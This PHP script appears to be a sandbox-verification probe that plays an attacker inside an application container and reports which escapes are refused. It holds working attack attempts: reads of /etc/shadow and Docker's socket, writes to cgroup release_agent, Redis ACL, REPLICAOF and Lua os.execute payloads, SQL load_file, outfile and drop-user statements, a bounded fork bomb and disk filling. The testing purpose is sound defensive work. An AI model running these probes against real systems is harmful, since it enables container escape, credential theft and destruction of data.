<?php
// What somebody would try who runs code of his own in a container of the application. Argument: JSON with what he may
// know already.
// Prints JSON: {"got": {what: how}, "refused": {what: why}, "controls": {what: whether it works that ought to}}

[, $path, $known] = $argv;
$known = json_decode($known, true, 512, JSON_THROW_ON_ERROR);
$said = ['got' => [], 'refused' => [], 'controls' => []];
error_reporting(E_ALL);
set_error_handler(static fn (int $level, string $why) => throw new ErrorException($why));

/** What is tried: got, where it answers anything but null and false. */
$try = static function (string $what, callable $how) use (&$said): void {
    try {
        $got = $how();
        $got === null || $got === false ? $said['refused'][$what] = 'nothing' : $said['got'][$what] = is_scalar($got)
            ? $got : json_encode($got);
    } catch (Throwable $error) {
        $said['refused'][$what] = substr($error->getMessage(), 0, 160);
    }
};
$control = static function (string $what, callable $how) use (&$said): void {
    try {
        $said['controls'][$what] = $how() ?: false;
    } catch (Throwable $error) {
        $said['controls'][$what] = $error->getMessage();
    }
};
$connect = static function (string $host, int $port): bool {
    $socket = stream_socket_client("tcp://$host:$port", $code, $why, 2);
    fclose($socket);
    return true;
};

// ── the kernel, other processes, the host
$others = array_filter(glob('/proc/[0-9]*'), static function (string $folder): bool {
    $line = (string) @file_get_contents("$folder/cmdline");
    return preg_match('/nginx|mariadbd|redis-server|agent\.cjs|dockerd/', $line) === 1;
});
$try('processes of other containers', static fn () => $others ?: null);
foreach (['environ', 'mem', 'root/etc/shadow', 'root/var/run/docker.sock'] as $file) {
    $try("/proc/PID/$file of them", static fn () => $others === [] ? null
        : file_get_contents(reset($others) . "/$file", length: 10));
}
foreach (['/etc/shadow', '/proc/kcore', '/proc/kmsg', '/dev/mem', '/dev/vda', '/dev/sda', '/proc/1/root/etc/shadow',
    '/sys/firmware/dmi/tables/DMI'] as $file) {
    $try("read $file", static fn () => ($open = fopen($file, 'r')) ? fread($open, 16) ?: null : null);
}
foreach (['/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/proc/1/oom_score_adj-',
    '/sys/fs/cgroup/release_agent',
    '/sys/fs/cgroup/memory/memory.limit_in_bytes', '/sys/fs/cgroup/memory.max', '/sys/fs/cgroup/pids/pids.max',
        '/sys/fs/cgroup/pids.max', '/sys/kernel/uevent_helper'] as $file) {
    $try("write to $file", static fn () => ($open = fopen($file, 'c')) ? true : null);
}
$try("Docker's socket", static fn () => array_filter(['/var/run/docker.sock', '/run/docker.sock'], file_exists(...))
    ?: null);
$status = file_get_contents('/proc/self/status');
$try('a capability', static fn () => preg_match('/^Cap(?:Prm|Eff|Bnd|Amb):\s*0*[1-9a-f]/mi', $status, $found)
    ? $found[0] : null);
$try('new privileges', static fn () => str_contains($status, "NoNewPrivs:\t1") ? null : 'by a file with setuid');
$try('no seccomp', static fn () => preg_match('/^Seccomp:\s*2/m', $status) ? null : 'all system calls');
$shell = static function (string $line): array {
    exec("$line 2>&1", $out, $code);
    return [$code, implode(' ', $out)];
};
foreach (['mount' => 'mount -t tmpfs none /mnt', 'unshare' => 'unshare -Ur id', 'mknod' => 'mknod /tmp/sda b 8 0',
    'chroot' => 'chroot / id',
    'su' => 'echo | su -c id', 'raw socket' => 'php -r \'exit(@socket_create(AF_INET, SOCK_RAW, 1) ? 0 : 1);\'',
    'a core dump' => 'ulimit -c unlimited', 'a higher limit' => 'ulimit -c 1000000'] as $what => $line) {
    $try($what, static fn () => ([$code, $out] = $shell($line))[0] === 0 ? "done: $out"
        : throw new Exception("$code $out"));
}

// ── what is read-only
foreach (['/drydock', '/run/drydock', '/run/drydock/php', '/etc', '/usr/bin', '/'] as $folder) {
    $try("make a file in $folder", static fn () => file_put_contents("$folder/.attack", 'x')
        ? unlink("$folder/.attack") : null);
}
foreach (['/drydock/start.sh', '/drydock/ready.php', '/run/drydock/fpm.conf', '/etc/hosts', '/etc/resolv.conf',
    '/etc/passwd'] as $file) {
    if (!file_exists($file)) {
        continue;
    }
    $try("write to $file", static fn () => fopen($file, 'a') ? true : null);
    $try("change the mode of $file", static fn () => chmod($file, 0777));
    $try("take $file away", static fn () => unlink($file));
    $try("put another in the place of $file", static fn () => file_put_contents('/tmp/.other', 'x')
        && rename('/tmp/.other', $file));
}
$control('a file of its own in /tmp', static fn () => file_put_contents('/tmp/.attack', 'x') && unlink('/tmp/.attack'));

// ── the network
foreach ($known['closed'] as $what => [$host, $port]) {
    $try("connect to $what", static fn () => $connect($host, $port));
}
foreach ($known['open'] as $what => [$host, $port]) {
    $control("connect to $what", static fn () => $connect($host, $port));
}
// ── with the application's own passwords
require "$path/vendor/autoload.php";
$env = Dotenv\Dotenv::parse(file_get_contents("$path/.env"));

$hosts = array_unique([$env['REDIS_HOST'], $env['REDIS_CACHE_HOST'] ?? $env['REDIS_HOST']]);
foreach ($hosts as $host) {
$redis = static function () use ($env, $host): Redis {
    $redis = new Redis();
    $redis->connect($host, 6379, 3);
    $redis->auth($env['REDIS_PASSWORD']);
    return $redis;
};
$control("$host PING", static fn () => $redis()->ping());
$control("$host SET, GET, EVAL", static fn () => ($r = $redis())->set('attack', 'x') && $r->get('attack') === 'x'
    && $r->eval('return 7') === 7 && $r->del('attack') === 1);
foreach ([
    'ACL SETUSER evil on >x ~* &* +@all', 'ACL SETUSER drydock resetpass off', 'ACL SETUSER default +@all',
        'ACL DELUSER drydock', 'ACL LIST', 'ACL USERS',
    'ACL GETUSER drydock', 'ACL LOAD', 'ACL SAVE', 'ACL LOG', 'CONFIG GET *', 'CONFIG SET dir /tmp',
        'CONFIG SET requirepass x', 'CONFIG REWRITE', 'CONFIG RESETSTAT',
    'MODULE LOAD /tmp/x.so', 'MODULE LIST', 'SLAVEOF 203.0.113.1 6379', 'REPLICAOF 203.0.113.1 6379', 'SYNC',
        'PSYNC ? -1', 'SHUTDOWN NOSAVE', 'DEBUG SLEEP 0',
    'DEBUG JMAP', 'SAVE', 'BGSAVE', 'BGREWRITEAOF', 'MONITOR', 'CLIENT LIST', 'CLIENT KILL TYPE normal',
        'CLIENT PAUSE 1', 'FLUSHALL', 'SWAPDB 0 1',
    'MIGRATE 203.0.113.1 6379 x 0 100', 'RESTORE x 0 y', 'FAILOVER', 'CLUSTER INFO', 'LATENCY RESET', 'SLOWLOG GET',
        'PFDEBUG GETREG x',
    'EVAL "return redis.call(\'ACL\',\'LIST\')" 0', 'EVAL "return redis.call(\'CONFIG\',\'GET\',\'dir\')" 0',
        'EVAL "return os.execute(\'id\')" 0',
    'EVAL "return io.open(\'/etc/passwd\'):read()" 0', 'EVAL "return loadfile(\'/etc/passwd\')" 0',
        'EVAL "return package.loadlib(\'x\',\'y\')" 0',
] as $line) {
    $try("$host $line", static function () use ($redis, $line) {
        $r = $redis();
        $r->clearLastError();
        $answer = $r->rawCommand(...str_getcsv($line, ' ', '"', ''));
        return $answer === false || $r->getLastError() !== null ? throw new Exception((string) $r->getLastError())
            : ['answer' => $answer];
    });
}
foreach ([['drydock', ''], ['drydock', $env['REDIS_PASSWORD']], ['default', ''], ['default', 'redis']] as [$user,
    $password]) {
    $try("$host as $user with another password", static function () use ($host, $user, $password) {
        $r = new Redis();
        $r->connect($host, 6379, 3);
        return $r->auth([$user, $password]) ? $r->ping() : null;
    });
}
}

$database = static fn (string $user, string $password, array $options = []): PDO => new PDO(
    "mysql:host={$env['DB_HOST']};port={$env['DB_PORT']}", $user, $password,
        $options + [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION, PDO::ATTR_TIMEOUT => 3]);
foreach ($known['accounts'] as [$user, $password]) {
    $try("the database as $user",
        static fn () => $database($user, $password)->query('select current_user()')->fetchColumn());
}
$own = $database($env['DB_USERNAME'], $env['DB_PASSWORD']);
$schema = $env['DB_DATABASE'];
$control('the database as the application', static fn () => $own->query('select 1')->fetchColumn() === 1);
$grants = implode("\n", $own->query('show grants')->fetchAll(PDO::FETCH_COLUMN));
$try('a right beyond its schema',
    static fn () => preg_match('/^GRANT (?!USAGE)[^\n]* ON \*\.\*|GRANT OPTION/m', $grants, $found) ? $found[0] : null);
$control('its rights in its own schema', static fn () => str_contains($grants, "`$schema`.*")
    || str_contains($grants, str_replace('_', '\_', "`$schema`.*")));
foreach ([
    "select * from mysql.user", 'select * from mysql.global_priv', 'select * from mysql.db', 'show binary logs',
        'show binlog events', 'show master status',
    "select load_file('/etc/passwd')", "select 1 into outfile '/tmp/attack'",
        "load data infile '/etc/passwd' into table $schema.migrations",
    'create database attack', 'use mysql', 'use sys', 'set global general_log = 1',
        "set global general_log_file = '/var/lib/mysql/x.php'", 'set global max_connections = 1',
    "set sql_log_bin = 0", "install soname 'x'", "create function attack returns string soname 'x.so'",
        'create user attack', "grant all on *.* to '{$env['DB_USERNAME']}'@'%'",
    "grant select on $schema.* to root@localhost", "set password for root@localhost = password('x')",
        "alter user root@localhost identified by 'x'", 'drop user root@localhost',
    'shutdown', "change master to master_host = '203.0.113.1'", 'purge binary logs before now()', 'reset master',
        'flush logs', 'flush tables with read lock', 'kill 1',
    "create definer = root@localhost view $schema.attack as select 1",
        "create definer = root@localhost procedure $schema.attack() select 1",
    "create server attack foreign data wrapper mysql options (host '127.0.0.1')", 'create role attack',
    "select 1 from information_schema.processlist where user not in ('{$env['DB_USERNAME']}')",
    "select 1 from information_schema.schemata where schema_name not in ('information_schema', '$schema')",
] as $sql) {
    $try("sql $sql", static fn () => ($found = $own->query($sql)) && $found->columnCount() > 0
        ? ($found->fetchColumn() ?: null) : 'done');
}

// ── processes
$limit = (int) $known['processes'];
$children = [];
$why = '';
set_error_handler(static function (int $level, string $message) use (&$why): bool {
    $why = $message;
    return true;
});
while (count($children) < $limit + 200 && ($child = pcntl_fork()) !== -1) {
    if ($child === 0) {
        sleep(60);
        exit(0);
    }
    $children[] = $child;
}
array_map(static fn (int $child) => posix_kill($child, SIGKILL), $children);
array_map(static fn (int $child) => pcntl_waitpid($child, $status), $children);
$said['processes'] = ['made' => count($children), 'why' => $why];

// ── memory that is a disk
foreach (['/tmp' => 128, '/dev/shm' => 64, "$path/storage/framework" => 128,
    "$path/bootstrap/cache" => 16] as $folder => $size) {
    $bytes = 0;
    $file = @fopen("$folder/attack", 'w');
    while ($bytes < ($size + 4) << 20 && ($written = (int) @fwrite($file, str_repeat('x', 1 << 20))) > 0) {
        $bytes += $written;
    }
    fclose($file);
    unlink("$folder/attack");
    $said['filled'][$folder] = $bytes >> 20;
}

// ── every place that can be written to, by the disk that it is on
$mounts = [];
foreach (file('/proc/self/mountinfo') as $line) {
    [$before, $after] = explode(' - ', trim($line));
    $mounts[explode(' ', $before)[4]] = explode(' ', $after)[0];
}
$queue = ['/'];
while (($folder = array_shift($queue)) !== null) {
    if (is_writable($folder)) {
        for ($mount = $folder; !isset($mounts[$mount]); $mount = dirname($mount));
        // What the kernel makes up is no disk: it is tried above.
        if (!in_array($mounts[$mount], ['proc', 'sysfs', 'cgroup', 'cgroup2', 'devpts'], true)) {
            $said['writable'][$mount] ??= ['type' => $mounts[$mount], 'bytes' => (int) disk_total_space($mount)];
        }
    }
    foreach (@scandir($folder) ?: [] as $name) {
        $below = rtrim($folder, '/') . "/$name";
        if ($name !== '.' && $name !== '..' && !is_link($below) && is_dir($below)
            && !in_array($below, ['/proc', '/sys'], true)) {
            $queue[] = $below;
        }
    }
}
echo "\n\x1e", json_encode($said, JSON_THROW_ON_ERROR | JSON_INVALID_UTF8_SUBSTITUTE), "\n";
